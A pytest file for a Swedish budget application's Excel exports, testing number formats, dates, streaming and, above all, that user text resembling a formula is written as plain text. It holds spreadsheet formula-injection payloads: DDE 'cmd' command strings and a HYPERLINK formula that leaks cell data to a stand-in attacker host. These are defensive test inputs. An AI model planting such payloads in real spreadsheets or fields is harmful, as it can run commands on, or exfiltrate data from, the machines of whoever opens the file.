import io
from decimal import Decimal

from openpyxl import load_workbook

from styrmodell.excel import XLSX_TYPE, Sheet, xlsx_response


def test_an_export_keeps_amounts_as_exact_numbers_with_headers_and_caption():
    response = xlsx_response("Ramar 2027", [
        Sheet("Ramar: 2027", ["Nämnd", "Ram (kr)", "Avvikelse (%)"],
              [["Socialnämnden", Decimal("281700000"), Decimal("-1.25")]],
              caption=["Driftbudgetramar 2027"]),
        Sheet("Andra", ["A"], [["x"]]),
    ])
    assert response["Content-Type"] == XLSX_TYPE
    assert 'filename="Ramar-2027.xlsx"' in response["Content-Disposition"]
    workbook = load_workbook(io.BytesIO(response.getvalue()))
    sheet = workbook["Ramar- 2027"]
    assert sheet["A1"].value == "Driftbudgetramar 2027"
    assert [cell.value for cell in sheet[3]] == ["Nämnd", "Ram (kr)", "Avvikelse (%)"]
    assert sheet["B4"].value == 281700000
    assert sheet["B4"].number_format == "#,##0"
    assert sheet["C4"].value == -1.25
    assert workbook.sheetnames == ["Ramar- 2027", "Andra"]


def test_a_column_has_one_number_format_whatever_its_values():
    """A percentage column shows −2 and −5,33 alike; a kronor column with öre shows öre on
    every row, one without whole kronor."""
    response = xlsx_response("Format", [Sheet("Format", ["Nämnd", "Avvikelse (% av ram)",
                                                         "Utfall (kr)", "Ram (kr)"], [
        ["BUN", Decimal("-2"), Decimal("1250.50"), Decimal("100")],
        ["SN", Decimal("-5.33"), Decimal("800"), Decimal("200.00")],
        ["KS", None, Decimal("12"), Decimal("300")],
    ])])
    sheet = load_workbook(io.BytesIO(response.getvalue()))["Format"]
    formats = {column: {sheet[f"{column}{row}"].number_format for row in (2, 3)}
               for column in "BCD"}
    assert formats == {"B": {"0.00"}, "C": {"#,##0.00"}, "D": {"#,##0"}}
    assert sheet["C4"].number_format == "#,##0.00"
    assert sheet["B2"].value == -2


# --- A user's text is written as text, never as a formula -------------------------------------

HOSTILE = ["=HYPERLINK(\"https://angripare.example/?\"&A1,\"Klicka här\")",
           "=cmd|' /C calc'!A0", "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
           "@SUM(1+1)*cmd|' /C calc'!A0"]
# Free-text fields people type (names, titles, motivations, comments), wherever they are kept.
FREE_TEXT = {"name", "short_name", "title", "description", "motivation", "reason", "comment",
             "text", "summary", "body", "measure", "what", "responsible", "notes", "label",
             "file_name", "case_number", "paragraph", "first_name",
             "last_name"}
APPS = {"budget", "goals", "deviations", "reporting", "styrmodell"}


def _make_user_text_hostile() -> None:
    """Every free-text field of the demo begins as a formula would: one UPDATE per field."""
    from django.apps import apps
    from django.db import models
    from django.db.models import Value
    from django.db.models.functions import Concat, Left

    number = 0
    for model in apps.get_models():
        if model._meta.app_label not in APPS or model.__name__.startswith("Historical"):
            continue
        for field_ in model._meta.concrete_fields:
            if (field_.name not in FREE_TEXT or field_.choices
                    or not isinstance(field_, models.CharField | models.TextField)):
                continue
            # A short field (a §, a dnr) gets a formula that fits whole, so the export shows it.
            fitting = [h for h in HOSTILE if not field_.max_length or len(h) < field_.max_length]
            prefix = fitting[number % len(fitting)] + " "
            number += 1
            value = Concat(Value(prefix), field_.name, output_field=field_)
            if field_.max_length:
                value = Left(value, field_.max_length)
            model._base_manager.update(**{field_.name: value})


def _formula_cells(content: bytes) -> list[str]:
    import zipfile

    workbook = load_workbook(io.BytesIO(content))
    found = [f"{sheet.title}!{cell.coordinate}" for sheet in workbook.worksheets
             for row in sheet.iter_rows() for cell in row if cell.data_type == "f"]
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        found += [name for name in archive.namelist()
                  if name.startswith("xl/worksheets/") and b"<f>" in archive.read(name)]
    return found


def _texts(content: bytes) -> list[str]:
    workbook = load_workbook(io.BytesIO(content))
    return [cell.value for sheet in workbook.worksheets for row in sheet.iter_rows()
            for cell in row if isinstance(cell.value, str)]


def _export_urls(unit) -> list[str]:
    from pathlib import Path

    from budget.ledger import outcomes
    from styrmodell.models import User

    demo_sie = Path(__file__).resolve().parents[2] / "demo" / "sie" / "ekbacka-2026-11.se"
    log = outcomes.import_sie(file=io.BytesIO(demo_sie.read_bytes()), file_name="nov.se",
                              user=User.objects.get(username="ekonom"))
    bun, sn = unit("bun").pk, unit("sn").pk
    return [
        "/budget/antaganden/2027/excel/", "/budget/underlag/2027/excel/",
        "/budget/cykel/2027/excel/", f"/budget/ramar/2027/{bun}/jamforelse/",
        "/budget/uppfoljning/2026/?format=xlsx", f"/budget/uppfoljning/2026/{bun}/?format=xlsx",
        "/budget/ramar/2026/excel/", f"/budget/ramar/2027/{bun}/excel/",
        "/budget/investeringar/2026/excel/",
        "/budget/utfall/2026/excel/", f"/budget/utfall/2026/{bun}/excel/",
        f"/budget/utfall/import/{log.pk}/excel/",
        "/budget/ofordelad/2026/excel/", "/budget/lonerorelse/2026/excel/",
        "/budget/skattesats/excel/", "/budget/bokslut/2025/excel/",
        "/budget/volymer/2026/?period=okt&format=xlsx",
        f"/budget/volymer/2026/{sn}/?period=okt&format=xlsx",
        "/avvikelser/?format=xlsx", "/rapporter/excel/",
    ]


def test_every_export_writes_a_users_formula_like_text_as_text(login, client, unit):
    urls = _export_urls(unit)
    _make_user_text_hostile()
    login("ekonom")
    written_as_formula, without_user_text = {}, []
    for url in urls:
        response = client.get(url)
        assert response.status_code == 200, url
        assert response["Content-Type"] == XLSX_TYPE, url
        content = response.getvalue()
        if found := _formula_cells(content):
            written_as_formula[url] = found[:3]
        if not any(hostile in text for text in _texts(content) for hostile in HOSTILE):
            without_user_text.append(url)
    assert written_as_formula == {}
    # Each export does carry a user's text, so the check above had something to find.
    assert without_user_text == []


def test_text_that_looks_like_a_formula_is_text_while_a_negative_amount_stays_a_number():
    response = xlsx_response("x", [Sheet(
        "=Blad", ["=Rubrik", "Belopp"],
        [["=cmd|' /C calc'!A0", Decimal("-1250")], ["-1250", Decimal("-0.5")],
         ["@SUM(A1:A2)", 3], ["+46 70 123", None]],
        caption=["=HYPERLINK(\"https://angripare.example\")"])])
    content = response.getvalue()
    sheet = load_workbook(io.BytesIO(content)).active
    assert _formula_cells(content) == []
    assert sheet["A1"].value == "=HYPERLINK(\"https://angripare.example\")"
    assert [sheet[f"A{row}"].value for row in range(3, 8)] == [
        "=Rubrik", "=cmd|' /C calc'!A0", "-1250", "@SUM(A1:A2)", "+46 70 123"]
    assert all(sheet[f"A{row}"].data_type == "s" for row in range(3, 8))
    # Excel's quote prefix keeps the text a text when someone edits the cell.
    assert sheet["A4"].quotePrefix and sheet["A5"].quotePrefix
    assert sheet["B4"].value == -1250 and sheet["B4"].data_type == "n"
    assert sheet["B5"].value == -0.5 and sheet["C1"].value is None
    assert sheet["B6"].value == 3


def test_control_characters_pasted_into_a_text_do_not_break_the_export():
    response = xlsx_response("x", [Sheet("Blad", ["Text"], [["Rad ett\x0bRad två\x00"]])])
    sheet = load_workbook(io.BytesIO(response.getvalue())).active
    assert sheet["A2"].value == "Rad ettRad två"


def test_a_moment_with_a_time_zone_is_written_in_local_time():
    import datetime as dt
    from zoneinfo import ZoneInfo

    moment = dt.datetime(2026, 11, 30, 23, 30, tzinfo=ZoneInfo("UTC"))
    response = xlsx_response("x", [Sheet("Blad", ["När"], [iter([moment])])])
    sheet = load_workbook(io.BytesIO(response.getvalue())).active
    assert sheet["A2"].value == dt.datetime(2026, 12, 1, 0, 30)


def test_a_date_is_a_date_cell_written_day_month_year():
    import datetime as dt

    response = xlsx_response("x", [Sheet("Blad", ["Sista dag", "Beräknad"], [
        [dt.date(2026, 11, 20), dt.datetime(2026, 11, 20, 14, 5)]])])
    sheet = load_workbook(io.BytesIO(response.getvalue())).active
    assert sheet["A2"].value == dt.datetime(2026, 11, 20)  # a date, not a text
    assert sheet["A2"].number_format == "d mmm yyyy"
    assert sheet["B2"].number_format == "d mmm yyyy hh:mm"


def test_a_long_export_is_streamed_and_keeps_every_row_and_one_format_per_column():
    rows = [[f"Projekt {number}", Decimal(number), Decimal("0.50") if number == 9_999 else
             Decimal(2)] for number in range(10_000)]
    response = xlsx_response("lang", [Sheet("Lång", ["Namn", "Belopp", "Med öre"], rows,
                                            caption=["Lång lista", "Uttag"])])
    assert response.streaming
    assert response["Content-Disposition"] == 'attachment; filename="lang.xlsx"'
    sheet = load_workbook(io.BytesIO(response.getvalue())).active
    assert sheet.max_row == 4 + 10_000
    assert sheet.freeze_panes == "A5"
    assert sheet["A4"].value == "Namn" and sheet["A4"].font.bold and sheet["A1"].font.bold
    assert {sheet.cell(row=row, column=2).number_format for row in range(5, sheet.max_row + 1)} \
        == {"#,##0"}
    assert {sheet.cell(row=row, column=3).number_format for row in range(5, sheet.max_row + 1)} \
        == {"#,##0.00"}
    assert sheet[f"A{sheet.max_row}"].value == "Projekt 9999"
